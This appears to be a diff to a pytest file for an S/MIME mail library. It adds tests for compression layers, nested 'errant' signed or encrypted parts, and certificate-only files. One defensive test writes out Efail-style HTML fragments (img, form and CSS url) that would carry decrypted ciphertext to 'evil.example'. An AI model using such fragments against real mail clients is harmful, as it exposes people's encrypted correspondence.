@@ -1,11 +1,15 @@
 """Layers: what surrounds the message counts, what stands elsewhere is named and left closed."""
 
-import pytest
+import zlib
+from collections.abc import Sequence
 
-from siegel.base.buffers import joined
-from siegel.base.errors import KeyUnavailable
+import pytest
+from cryptography.hazmat.primitives.asymmetric.types import PublicKeyTypes
+
+from siegel.base.buffers import Buffer, joined
+from siegel.base.errors import KeyUnavailable, MalformedMessage
 from siegel.base.findings import Finding
-from siegel.base.keys import DecryptionKey, KeyId
+from siegel.base.keys import DecryptionKey, KeyId, TransportScheme
 from siegel.base.limits import DEFAULT, Limits
 from siegel.cms.enveloped import build_enveloped_data
 from siegel.mime.parse import parse_entity
@@ -16,6 +20,7 @@ from siegel.smime.layers import CompressedLayer, EncryptedLayer, ErrantLayer, Si
 from siegel.smime.schemes import recipient_spec
 from tests.peers import mime
 from tests.peers.openssl import OpenSSL
+from tests.unit.cms.test_compressed import compressed as compressed_data
 from tests.unit.smime import mails
 from tests.unit.smime.mails import MAIL, NOW, TEXT, certificate, judged, mail, opened
 from tests.unit.smime.test_structure import OTHER, cms, lines_of, parts, signature
@@ -35,9 +40,10 @@ def opaque(content: bytes, name: str = "alice") -> bytes:
     return mime.pkcs7_mime(cms(content, name, detached=False), "signed-data")
 
 
-def mixed(*bodies: bytes) -> bytes:
-    inside = b"".join(b"--m\r\n" + body + b"\r\n" for body in bodies)
-    return b'Content-Type: multipart/mixed; boundary="m"\r\n\r\n' + inside + b"--m--\r\n"
+def mixed(*bodies: bytes, mark: bytes = b"m") -> bytes:
+    head = b'Content-Type: multipart/mixed; boundary="' + mark + b'"\r\n\r\n'
+    inside = b"".join(b"--" + mark + b"\r\n" + body + b"\r\n" for body in bodies)
+    return head + inside + b"--" + mark + b"--\r\n"
 
 
 # how deep
@@ -127,17 +133,18 @@ def test_a_key_that_comes_later_opens_the_same_message() -> None:
 def test_a_token_that_does_not_answer_says_nothing_about_the_message() -> None:
     class Unplugged:
         certificates = (certificate("huber"),)
-        public_key = certificate("huber").public_key
+        public_key = mails.key("huber").public_key
 
-        def decrypt(self, *_: object) -> bytes:
+        def decrypt(self, blob: Buffer, scheme: TransportScheme) -> bytes:
             raise KeyUnavailable("the token is unplugged")
 
-        agree = decrypt
+        def agree(self, peer: PublicKeyTypes) -> bytes:
+            raise KeyUnavailable("the token is unplugged")
 
     class Ring:
-        def matching(self, identifier: KeyId) -> tuple[DecryptionKey, ...]:
+        def matching(self, identifier: KeyId) -> Sequence[DecryptionKey]:
             del identifier
-            return (Unplugged(),)  # type: ignore[return-value]  # public_key may be None by type
+            return (Unplugged(),)
 
     with pytest.raises(KeyUnavailable):
         opened(mails.sealed_mail("alice", "huber"), ring=Ring())
@@ -146,10 +153,153 @@ def test_a_token_that_does_not_answer_says_nothing_about_the_message() -> None:
 # compression
 
 
-@pytest.fixture
-def compressed(openssl: OpenSSL) -> bytes:
-    try:
-        made = openssl._make("-compress", TEXT * 50, [], "DER")
-    except Exception:  # noqa: BLE001
-        pytest.skip("this OpenSSL was built without zlib")
-    return mime.pkcs7_mime(made, "signed-data")
+def squeezed(entity: bytes) -> bytes:
+    """RFC 3274; the OpenSSL of many systems cannot, it is built without zlib."""
+    head = (
+        b"Content-Type: application/pkcs7-mime; smime-type=compressed-data; name=smime.p7z\r\n"
+        b"Content-Transfer-Encoding: base64\r\n\r\n"
+    )
+    return head + lines_of(compressed_data(zlib.compress(entity)))
+
+
+def test_compression_is_a_layer_that_protects_nothing() -> None:
+    found = opened(mail(squeezed(TEXT)))
+
+    assert found.layers == (CompressedLayer(),)
+    assert found.findings == (Finding.COMPRESSED,)
+    assert not found.protected
+    assert bytes(found.payload.exact) == TEXT
+    assert judged(found).summary is CryptographicSummary.UNPROTECTED
+
+
+@pytest.mark.parametrize("inside", [True, False], ids=["signed-inside", "signed-outside"])
+def test_compression_may_stand_on_either_side_of_a_signature(inside: bool) -> None:
+    found = opened(mail(squeezed(opaque(TEXT)) if inside else opaque(squeezed(TEXT))))
+
+    assert bytes(found.payload.exact) == TEXT
+    assert judged(found).summary is CryptographicSummary.VERIFIED
+
+
+def test_what_grows_too_far_is_too_complex() -> None:
+    found = opened(mail(opaque(squeezed(bytes(4_000_000)))))
+
+    assert Finding.TOO_COMPLEX in found.findings
+    assert judged(found).summary is CryptographicSummary.UNPROTECTED
+
+
+# errant layers
+
+
+ERRANT = [
+    pytest.param(mixed(mime.text_entity(), opaque(TEXT)), [("2", "signed-data")], id="opaque"),
+    pytest.param(mixed(parts(TEXT, signature()), OTHER), [("1", "signed")], id="footer"),
+    pytest.param(mixed(OTHER, parts(TEXT, signature())), [("2", "signed")], id="head"),
+    pytest.param(
+        mixed(parts(TEXT, signature()), encrypted(TEXT)),
+        [("1", "signed"), ("2", "enveloped-data")],
+        id="both",
+    ),
+    pytest.param(mixed(OTHER, signature()), [("2", "signature")], id="lost-signature"),
+    pytest.param(
+        mixed(OTHER, b"Content-Type: message/rfc822\r\n\r\n" + mail(parts(TEXT, signature()))),
+        [("2", "signed")],
+        id="forwarded",
+    ),
+    pytest.param(
+        b"Content-Type: message/rfc822\r\n\r\n" + mail(opaque(TEXT)),
+        [("1.1", "signed-data")],
+        id="forwarded-alone",
+    ),
+    pytest.param(
+        mixed(OTHER, b"Content-Type: application/octet-stream; name=smime.p7m\r\n\r\nAAAA"),
+        [("2", "pkcs7-mime")],
+        id="octet-stream",
+    ),
+    pytest.param(
+        mixed(OTHER, b"Content-Type: multipart/signed; protocol=application/pgp-signature\r\n\r\n"),
+        [],
+        id="openpgp-is-not-ours",
+    ),
+]
+
+
+@pytest.mark.parametrize(("entity", "expected"), ERRANT)
+def test_protection_inside_of_a_message_is_named_and_protects_nothing(
+    entity: bytes, expected: list[tuple[str, str]]
+) -> None:
+    found = opened(mail(entity), "huber")
+
+    assert found.layers == ()
+    assert [(layer.path, layer.kind) for layer in found.errant] == expected
+    assert found.findings == ((Finding.ERRANT_LAYER,) if expected else ())
+    assert found.payload is found.message.root
+    assert judged(found).summary is CryptographicSummary.UNPROTECTED
+
+
+@pytest.mark.requirement("A3")
+@pytest.mark.parametrize(
+    "frame",
+    [
+        pytest.param([b'<img src="http://evil.example/', b'">'], id="img"),
+        pytest.param([b'<form action="http://evil.example/"><textarea>', b"</textarea>"], id="form"),
+        pytest.param([b"<style>*{background:url(http://evil.example/", b")}</style>"], id="css"),
+    ],
+)
+@pytest.mark.parametrize("kind", [b"mixed", b"related", b"alternative"])
+def test_ciphertext_between_other_parts_is_never_opened(frame: list[bytes], kind: bytes) -> None:
+    """Efail, direct exfiltration: HTML around the stolen ciphertext would carry its text away."""
+    stolen = encrypted(b"Content-Type: text/plain\r\n\r\ngeheim\r\n")
+    html = [b"Content-Type: text/html\r\n\r\n" + piece for piece in frame]
+    raw = mail(mixed(html[0], stolen, html[1]).replace(b"multipart/mixed", b"multipart/" + kind))
+
+    found = opened(raw, "huber")
+
+    assert found.layers == ()
+    assert found.errant == (ErrantLayer(path="2", kind="enveloped-data"),)
+    assert b"geheim" not in bytes(found.payload.exact)
+    assert found.payload is found.message.root
+
+
+def test_opened_text_is_a_document_of_its_own() -> None:
+    """Nothing of what stood around it in the message can become part of it."""
+    found = opened(mail(encrypted(b"Content-Type: text/html\r\n\r\n<p>geheim")), "huber")
+
+    assert found.payload.buffer is not found.message.root.buffer
+    assert (found.payload.start, found.payload.end) == (0, len(found.payload.buffer))
+
+
+def test_layers_inside_of_the_payload_are_errant_too() -> None:
+    inside = mixed(OTHER, parts(TEXT, signature()))
+
+    found = opened(mail(opaque(inside)))
+
+    assert len(found.layers) == 1
+    assert [layer.kind for layer in found.errant] == ["signed"]
+    assert judged(found).summary is CryptographicSummary.VERIFIED
+
+
+def test_errant_layers_are_not_looked_into() -> None:
+    nested = mixed(mixed(opaque(mixed(OTHER, opaque(TEXT))), mark=b"inner"), OTHER)
+
+    assert [layer.path for layer in errant_layers(parse_entity(nested))] == ["1.1"]
+
+
+# files that only hold certificates
+
+
+def test_a_file_of_certificates_is_written_and_read(world: World, openssl: OpenSSL) -> None:
+    given = (certificate("alice"), certificate("dana"))
+
+    blob = build_certs_only(given)
+
+    assert set(read_certs_only(blob)) == set(given)
+    said = openssl.structure(blob)
+    assert "signerInfos:\n      <EMPTY>" in said
+    assert said.count("subject:") >= len(given)
+    assert world.now == NOW
+
+
+@pytest.mark.parametrize("blob", [b"", b"\x30\x00", MAIL, build_certs_only(())])
+def test_a_file_without_certificates_is_refused(blob: bytes) -> None:
+    with pytest.raises(MalformedMessage):
+        read_certs_only(blob)
